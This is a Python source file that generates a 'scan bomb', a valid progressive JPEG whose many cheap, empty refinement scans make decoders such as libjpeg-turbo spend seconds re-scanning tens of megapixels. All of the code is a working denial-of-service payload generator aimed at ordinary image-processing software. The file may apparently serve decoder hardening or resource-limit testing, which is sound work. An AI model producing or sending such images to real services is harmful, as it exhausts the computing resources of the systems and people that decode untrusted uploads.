"""Pictures that are small to send and dear to decode."""

from __future__ import annotations

import struct

_RUN = "0" + "1" * 14
"""The code of "end of band, 2^14 blocks and more" and its bits: 32,767 blocks without a coefficient."""


def scan_bomb(side: int = 6320, scans: int = 1000) -> bytes:
    """A sound progressive JPEG, `side` x `side` and grey, that passes over its pixels again and again for nothing.

    libjpeg-turbo needs some 25 ms for each scan of 40 megapixels, and each takes fifty bytes.
    """
    blocks = ((side + 7) // 8) ** 2
    head = b"\xff\xd8" + _segment(0xDB, b"\0" + b"\1" * 64)
    head += _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    for table, symbol in ((0x00, 0x00), (0x10, 0xE0)):
        head += _segment(0xC4, bytes([table, 1]) + b"\0" * 15 + bytes([symbol]))
    first = _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + _bits("0" * blocks)
    again = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + _bits(_RUN * -(-blocks // 32767))
    return head + first + again * scans + b"\xff\xd9"


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _bits(text: str) -> bytes:
    text += "1" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big").replace(b"\xff", b"\xff\0")
